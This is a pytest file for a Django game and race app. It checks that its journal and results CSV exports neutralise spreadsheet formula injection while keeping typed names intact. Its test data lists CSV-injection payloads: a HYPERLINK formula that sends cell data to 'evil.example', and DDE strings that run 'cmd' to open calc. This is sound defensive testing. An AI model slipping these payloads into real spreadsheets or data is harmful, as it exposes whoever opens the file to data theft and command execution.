"""The CSV files organisers download (the journal, the race's public results) are opened in
a spreadsheet: a name an attacker typed must not run there as a formula, and must still
read as typed."""
from __future__ import annotations

import csv
import io
import re

import pytest
from rest_framework.test import APIClient

from players.models import Character
from players.services import event_create
from race.models import Entry
from race.services.courses import checkpoint_create, course_create

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =2+2",
    "\r=3+3",
]
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def _would_run(cell: str) -> bool:
    """What Excel, LibreOffice or Sheets would evaluate or treat as a formula's way in."""
    if NUMBER.match(cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def _csv_of(names, header="name;team") -> str:
    quoted = ['"' + n.replace('"', '""') + '"' for n in names]
    return header + "\n" + "".join(f"{n};Bleus\n" for n in quoted)


@pytest.mark.django_db
def test_journal_csv_after_a_roster_of_formula_names_has_no_cell_that_runs(event, narrator_api):
    response = narrator_api.post(f"/api/events/{event.pk}/roster/", _csv_of(FORMULA_NAMES),
                                 content_type="text/csv")
    assert response.status_code == 201, response.content
    stored = set(Character.objects.filter(event=event).values_list("name", flat=True))
    # stored as typed: no stripping turned "\t=1+1" into "=1+1"
    assert {"\t=1+1", "  =2+2"} <= stored and "=1+1" not in stored and "=2+2" not in stored

    exported = narrator_api.get(f"/api/events/{event.pk}/journal.csv")
    assert exported.status_code == 200
    cells = _cells(exported.content)
    assert [c for c in cells if _would_run(c)] == []
    for name in FORMULA_NAMES[:4]:
        assert "'" + name in cells          # the name, as text
    assert any(NUMBER.match(c) for c in cells)   # ids and game seconds stay numbers


@pytest.mark.django_db
def test_results_csv_after_entries_with_formula_names_has_no_cell_that_runs(clock, narrator_api,
                                                                            narrator_user):
    race = event_create(name="Rugles by Night", ruleset="zombie_race", language="fr", options={},
                        by=narrator_user, start_clock=True)
    course = course_create(event=race, name="famille", by=narrator_user)
    checkpoint_create(course=course, code="31", name="Balise 31", by=narrator_user, lat=48.82, lon=0.70)
    rows = "".join('"{}";famille;{};06 12 34 56 78\n'.format(n.replace('"', '""'), 100 + i)
                   for i, n in enumerate(FORMULA_NAMES))
    response = narrator_api.post(f"/api/race/events/{race.pk}/entries/import/",
                                 "name;course;finger;phone\n" + rows, content_type="text/csv")
    assert response.status_code == 201, response.content
    assert Entry.objects.filter(event=race).count() == len(FORMULA_NAMES)

    exported = APIClient().get(f"/race/{race.pk}/results.csv")
    assert exported.status_code == 200
    cells = _cells(exported.content)
    assert [c for c in cells if _would_run(c)] == []
    assert "'" + FORMULA_NAMES[0] in cells
